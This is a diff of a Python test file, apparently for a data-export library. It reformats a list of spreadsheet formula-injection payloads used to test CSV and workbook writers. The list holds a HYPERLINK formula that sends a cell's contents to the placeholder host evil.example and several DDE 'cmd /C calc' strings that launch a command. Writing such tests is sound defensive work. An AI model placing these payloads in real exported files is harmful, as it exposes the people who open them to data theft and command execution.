@@ -8,8 +8,14 @@ import openpyxl
 
 from evaltools.data import load_data, write_csv_folder, write_workbook
 
-EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+EVIL = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _evil_data(folder):
